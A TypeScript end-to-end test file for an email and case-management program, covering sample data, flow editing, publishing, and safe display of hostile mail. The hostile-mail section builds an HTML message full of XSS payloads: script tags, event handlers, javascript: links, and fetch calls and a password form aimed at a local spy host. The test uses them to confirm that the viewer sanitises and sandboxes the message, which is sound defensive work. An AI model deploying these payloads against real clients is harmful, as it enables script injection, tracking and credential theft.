// What an administrator does before trusting the program: look at the sample, try a flow on real mail, change and undo,
// read hostile mail in safety, and clear the sample away.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eventually } from '../support/eventually';
import { buildMail } from '../support/mail';
import { type Program, startProgram } from '../support/servers/program';
import { newMailUser, sharedDovecot } from '../support/shared-servers';
import { Canvas, confirmPublishing } from './support/canvas';
import { chaptersIn } from './support/chapters';
import { enter, goTo } from './support/shell';
import { openWindow, type WatchedPage } from './support/watched-page';

let program: Program;
let window: WatchedPage;
/** Where hostile mail would like to report to: any request there is a leak. */
let spy: Server;
const spied: string[] = [];
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const chapter = chaptersIn(() => window);
const page = () => window.page;
const heading = (name: string) => page().getByRole('heading', { level: 1, name });

interface Message {
  id: string;
  subject: string;
  actions: string[];
  decisions: { decision: { path: string[] } }[];
}

interface Flow {
  id: string;
  draft: { nodes: { id: string; data: { source?: string } }[] };
}

/** What the API tells the browser's own session. */
async function ask<Answer>(path: string): Promise<Answer> {
  const answer = await window.context.request.get(`/api/v1${path}`);
  expect(answer.status()).toBe(200);
  return (await answer.json()) as Answer;
}

/** A sample message that became a case. */
async function urgentMessage(): Promise<Message> {
  const { items } = await ask<{ items: Message[] }>('/messages?q=brake%20lever&direction=in&limit=50');
  const urgent = items.find(({ actions }) => actions.includes('case'));
  if (!urgent) throw new Error('No sample message about the brake became a case.');
  return ask<Message>(`/messages/${urgent.id}`);
}

/** The ids of the steps on the lit path, as the canvas shows them. */
async function litSteps(): Promise<(string | null)[]> {
  const cards = await page().locator('.react-flow__node:has([data-light="on"])').all();
  return Promise.all(cards.map((card) => card.getAttribute('data-id')));
}

beforeAll(async () => {
  spy = createServer((request, response) => {
    spied.push(`${request.method} ${request.url}`);
    response.end(GIF);
  });
  await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
  program = await startProgram({ env: { SAMPLE_MAILBOX: 'true', IMAGE_ALLOWED_HOSTS: '127.0.0.1' } });
  window = await openWindow(program.url);
});

afterAll(async () => {
  await window?.close();
  await program?.stop();
  spy?.close();
});

describe('the sample', () => {
  chapter('shows on the first screen what became of its mail', async () => {
    await enter(window, program.signInLink());
    await page().getByText('You are looking at sample data').waitFor();
    const counts = async () => {
      const texts = await Promise.all(
        ['Messages', 'Cases', 'Leads', 'Answers sent'].map((name) =>
          page()
            .getByRole('main')
            .getByRole('link', { name: new RegExp(`^${name}`) })
            .innerText(),
        ),
      );
      return texts.map((text) => Number(/(\d+)\s*$/.exec(text)?.[1]));
    };
    await eventually(async () => (await counts()).every((count) => count > 0), {
      timeout: 30_000,
      what: 'messages, cases, leads and answers on the overview',
    });
  });

  chapter('tries the draft on a stored message and lights its way', async () => {
    const urgent = await urgentMessage();
    const visited = urgent.decisions[0]?.decision.path ?? [];
    expect(visited).toContain('first-in-line');

    await goTo(page(), 'Flows');
    await page().getByRole('link', { name: 'Sample shop', exact: true }).first().click();
    await heading('Sample shop').waitFor();
    await page().getByRole('button', { name: 'Try' }).click();
    const panel = page().getByTestId('try-panel');
    await panel.getByRole('searchbox').fill('brake lever');
    await panel.getByTestId('try-message').getByText(urgent.subject, { exact: true }).click();
    const planned = panel.getByTestId('planned-actions').getByRole('listitem');
    await planned.first().waitFor();

    // Steps of the called flow are on its own canvas.
    expect((await litSteps()).sort()).toEqual(visited.filter((id) => !id.includes('/')).sort());
    expect(await planned.count()).toBe(3);
    expect(await planned.first().innerText()).toContain('Convert to case');
    // Steps beside the way are dimmed, and marked with what the message had instead.
    await page().locator('.react-flow__node[data-id="new-lead"] [data-light="off"]').waitFor();
    const urgency = page().locator('.react-flow__node[data-id="important"]');
    await urgency.getByRole('img', { name: 'Yes for this message' }).waitFor();
  });

  chapter('edits, undoes, and publishes the next version', async () => {
    const canvas = new Canvas(page());
    const [lead] = await canvas.steps('lead');
    const leads = await canvas.steps('respond');
    await canvas.select(lead ?? (await canvas.start()));
    await canvas.fill('Source', 'Web shop');
    await canvas.saved();
    const flowId = new URL(page().url()).pathname.split('/').at(-1);
    const sourceOf = async () => {
      const { draft } = await ask<Flow>(`/flows/${flowId}`);
      return draft.nodes.find(({ id }) => id === lead?.id)?.data.source;
    };
    await eventually(async () => (await sourceOf()) === 'Web shop', { what: 'the saved draft' });

    // A deleted step comes back with its connections by the keyboard.
    const edges = await canvas.edges();
    await canvas.select(leads[0] ?? (await canvas.start()));
    await leads[0]?.card.focus();
    await page().keyboard.press('Delete');
    await eventually(async () => (await canvas.steps('respond')).length === leads.length - 1);
    await page().keyboard.press('Control+z');
    await eventually(async () => (await canvas.edges()) === edges, { what: 'the connections of the restored step' });
    expect(await canvas.steps('respond')).toHaveLength(leads.length);

    await canvas.saved();
    await page().getByRole('button', { name: 'Publish…' }).click();
    await confirmPublishing(page());
    await page().getByText('Version 2 is live').first().waitFor();
    expect(await sourceOf()).toBe('Web shop');
  });

  chapter('tells on the message page why it became what it became', async () => {
    await goTo(page(), 'Messages');
    await page().getByRole('searchbox').fill('brake lever broken');
    await page().getByRole('listitem').filter({ hasText: 'URGENT' }).getByRole('link').last().waitFor();
    const urgent = await urgentMessage();
    await page().locator(`a[href^="/messages/${urgent.id}"]`).click();
    await heading(urgent.subject).waitFor();
    const trace = page().getByRole('region', { name: 'What the flow decided' });
    await trace.getByRole('link', { name: 'Sample shop, version 1' }).waitFor();
    const words = await trace.innerText();
    expect(words).toMatch(/Subject contains any of/);
    expect(words).toContain(urgent.subject);
    await trace.getByText('True', { exact: true }).first().waitFor();
    await trace.getByText('False', { exact: true }).first().waitFor();
  });

  chapter('goes away when asked to', async () => {
    await goTo(page(), 'Overview');
    await page().getByRole('button', { name: 'Remove sample data' }).click();
    await page().getByRole('dialog').getByRole('button', { name: 'Remove sample data' }).click();
    await page().getByText('No mail yet').waitFor();
    for (const [screen, empty] of [
      ['Messages', 'No messages'],
      ['Cases', 'No cases yet'],
      ['Leads', 'No leads yet'],
      ['Contacts', 'No contacts yet'],
      ['Accounts', 'No accounts yet'],
      ['Flows', 'No flows yet'],
      ['Lists', 'No lists yet'],
      ['Calendars', 'No calendars yet'],
      ['Templates', 'No templates yet'],
      ['Mailboxes', 'No mailbox connected'],
      ['Outbox', 'Nothing to send'],
      ['Quarantine', 'Quarantine is empty'],
    ] as const) {
      await goTo(page(), screen);
      await page().getByText(empty, { exact: true }).waitFor();
    }
  });
});

describe('hostile mail', () => {
  const subject = 'You have won';
  const mark = 'A harmless sentence that has to stay readable.';
  const unknownImage = 'https://tracker.test/pixel.png';

  chapter('is shown without running, loading or sending anything', async () => {
    const desk = newMailUser('hostile');
    const server = { host: '127.0.0.1', security: 'none', user: desk.user, password: desk.password } as const;
    const created = await window.context.request.post('/api/v1/mailboxes', {
      headers: { origin: program.url },
      data: {
        name: 'Desk',
        address: desk.address,
        aliases: [],
        imap: { ...server, port: sharedDovecot().imapPort, allowUntrustedCertificate: true },
        smtp: { ...server, port: sharedDovecot().imapPort, allowUntrustedCertificate: true },
        monitoredFolders: ['INBOX'],
        syncFrom: null,
        markSeen: false,
        teamId: null,
        neverAnswer: [],
      },
    });
    expect(created.status()).toBe(201);

    const leak = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
    const run = `top.hostile=1;parent.hostile=1;window.hostile=1;fetch('${leak}/run')`;
    const html = `<!doctype html><html><head>
      <meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/">
      <link rel="stylesheet" href="${leak}/style.css"><style>@import url(${leak}/import.css); body{background:url(${leak}/bg.png)}</style>
      <script>${run}</script><script src="${leak}/script.js"></script></head>
      <body onload="${run}"><p>${mark}</p>
      <img src="x" onerror="${run}"><img src="${leak}/image.png" srcset="${leak}/image-2x.png 2x"><img src="${unknownImage}">
      <svg onload="${run}"><script>${run}</script><image href="${leak}/svg.png"/></svg>
      <iframe src="${leak}/frame"></iframe><object data="${leak}/object"></object><embed src="${leak}/embed">
      <video src="${leak}/video" poster="${leak}/poster" autoplay></video><audio src="${leak}/audio" autoplay></audio>
      <form action="${leak}/form" method="post"><input name="password"><button>Claim the prize</button></form>
      <a id="js" href="javascript:${run}">claim by script</a>
      <div style="background-image:url('${leak}/div.png')">styled</div></body></html>`;
    await sharedDovecot().deliver(
      buildMail({ from: 'Mallory <mallory@evil.test>', to: desk.address, subject, text: 'Plain part.', html }),
      desk.address,
    );

    // Nothing of this may ever leave the machine, not even when remote images are wanted.
    await window.context.route('https://tracker.test/**', (route) =>
      route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
    );
    await goTo(page(), 'Messages');
    await page().getByRole('link').filter({ hasText: subject }).click();
    await heading(subject).waitFor();
    await page().getByText('Original', { exact: true }).click();
    const frame = page().frameLocator('iframe[title="Original message"]');
    await frame.getByText(mark).waitFor();
    await page()
      .getByText(/images? of (another|other) servers? (is|are) not loaded/)
      .waitFor();

    for (const active of [
      'script',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'link',
      'base',
      'svg',
      'video',
      'audio',
    ]) {
      expect({ active, found: await frame.locator(`body ${active}`).count() }).toEqual({ active, found: 0 });
    }
    const left = await frame.locator('body').innerHTML();
    expect(left).not.toMatch(/\son\w+\s*=/i);
    expect(left).not.toMatch(/javascript:/i);
    // Blocked images keep their address where no browser looks for it.
    expect(left.replaceAll(/data-blocked-src="[^"]*"/g, '')).not.toContain(leak);
    const sandbox = await page().locator('iframe').getAttribute('sandbox');
    expect(sandbox).not.toBeNull();
    expect(sandbox).not.toMatch(/allow-(scripts|same-origin|forms|top-navigation|modals|downloads)/);
    await frame.getByText('claim by script').click();

    expect(await page().evaluate('window.hostile')).toBeUndefined();
    expect(spied).toEqual([]);
    expect(window.foreignRequests).toEqual([]);
  });

  chapter('loads remote images only when asked, through the program, and nothing else', async () => {
    await page().getByRole('button', { name: 'Show images' }).click();
    const frame = page().frameLocator('iframe[title="Original message"]');
    await frame.locator(`img[src="data:image/gif;base64,${GIF.toString('base64')}"]`).waitFor({ state: 'attached' });
    await frame.getByText(mark).waitFor();
    // The browser itself asks nobody: what the program could not get stays away.
    expect(await frame.locator(`img[src="${unknownImage}"]`).count()).toBe(0);
    expect(window.foreignRequests).toEqual([]);
    expect(spied).toEqual(['GET /image.png']);
    expect(await page().evaluate('window.hostile')).toBeUndefined();
  });
});
